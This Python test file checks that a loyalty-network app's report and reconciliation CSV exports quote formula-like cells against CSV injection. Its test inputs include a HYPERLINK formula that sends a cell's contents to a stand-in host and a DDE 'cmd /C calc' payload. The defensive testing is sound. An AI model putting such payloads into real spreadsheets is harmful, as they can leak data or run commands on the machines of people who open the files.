"""CSV injection (OWASP): a text cell of a downloadable CSV that a spreadsheet would read as a formula
(it begins with =, +, -, @, a tab or a carriage return) is written with a leading single quote;
numbers, negative ones too, stay numbers. The report CSV and the reconciliation breaks CSV do this;
csv_values reads the report CSV back to the report's own values."""

from __future__ import annotations

import csv
import io
import json

import pytest

from shared.reports.period import Period
from shared.reports.render import csv_values, flatten, render, to_csv
from shared.reports.service import build_network, build_partner
from shared.reports.spreadsheet import FORMULA_STARTS, spreadsheet_text, unquoted
from shared.rules.store import set_rules
from shared.settlement.positions import breaks_csv
from shared.settlement.reconcile import Break
from tests.factories import make_member, make_partner

PERIOD = Period.parse("2026-11-20", "2026-11-20")
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTab", "\rReturn"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_text_gets_a_leading_quote_and_reads_back(text):
    assert spreadsheet_text(text) == "'" + text
    assert unquoted(spreadsheet_text(text)) == text


@pytest.mark.parametrize("text", ["-568", "-0.05", "1900", "0.3333", "-12.500000", "2026-11-20", "", "CoffeeCo",
                                  "partner:ptn_1:issued", "a=b"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert spreadsheet_text(text) == text and unquoted(text) == text


def test_a_text_that_already_looks_quoted_stays_readable_back():
    for text in ("'=x", "''-y", "'plain", "'"):
        assert unquoted(spreadsheet_text(text)) == text
    assert spreadsheet_text("'plain") == "'plain"  # only a quote before a formula start is doubled


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in FORMULA_STARTS and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile(network):
    """Partners and a campaign whose names are formulas, with points flowing between them."""
    terms = dict(billing="postpaid", point_value="1", issuance_fee="0.1", redemption_fee_rate="0.05")
    issuer = make_partner(network, "=HYPERLINK(\"http://x.example\",\"Issuer\")", **terms)
    spender = make_partner(network, "-Spender", **terms)
    other = make_partner(network, "@Other", **terms)
    network.tx(lambda tx: set_rules(tx, issuer, json.dumps({"campaigns": [
        {"id": "double", "name": "=1+1 day", "starts_on": "2026-11-20", "ends_on": "2026-11-20",
         "multiplier": "2"}]})))
    member = make_member(network, issuer, also_linked_to=(spender, other))
    network.earn(issuer, member, "e1", amount=50000)
    network.burn(spender, member, "b1", 300)
    network.burn(other, member, "b2", 100)
    return {"issuer": issuer, "spender": spender, "other": other}


def test_report_csv_quotes_formula_names_and_keeps_the_values(network, hostile):
    for report in (build_partner(network, hostile["issuer"], PERIOD), build_partner(network, hostile["spender"], PERIOD),
                   build_network(network, PERIOD)):
        text = render(report, "csv")
        cells = _cells(text)
        assert _unsafe(cells) == [], _unsafe(cells)
        assert any(c.startswith("'=HYPERLINK") for c in cells) or any(c == "'-Spender" for c in cells)
        assert csv_values(text) == {(f"{s}.{n}" if n else s): v for s, n, v in flatten(report)}
    issuer_csv = render(build_partner(network, hostile["issuer"], PERIOD), "csv")
    assert "'=HYPERLINK" in issuer_csv and "'-Spender" in issuer_csv and "'@Other" in issuer_csv
    assert "'=1+1 day" in issuer_csv



def test_negative_numbers_stay_numbers_in_the_report_csv():
    report = {"money": {"net_minor": -568, "rate": "-0.0500", "note": "-568 fen"}, "partner": {"name": "-Shop"}}
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert rows[1:] == [["money", "net_minor", "-568"], ["money", "rate", "-0.0500"],
                        ["money", "note", "'-568 fen"], ["partner", "name", "'-Shop"]]


def test_the_breaks_csv_quotes_what_the_partner_log_wrote():
    text = breaks_csv([Break("=HYPERLINK(\"x\")", "missing_on_network", "", "@burn 5", "unknown reference"),
                       Break("book-1", "amount_mismatch", "-12.500000", "-12.400000", "different amount")])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'=HYPERLINK(\"x\")" and rows[1][3] == "'@burn 5"
    assert rows[2] == ["book-1", "amount_mismatch", "-12.500000", "-12.400000", "different amount"]
    assert _unsafe(_cells(text)) == []
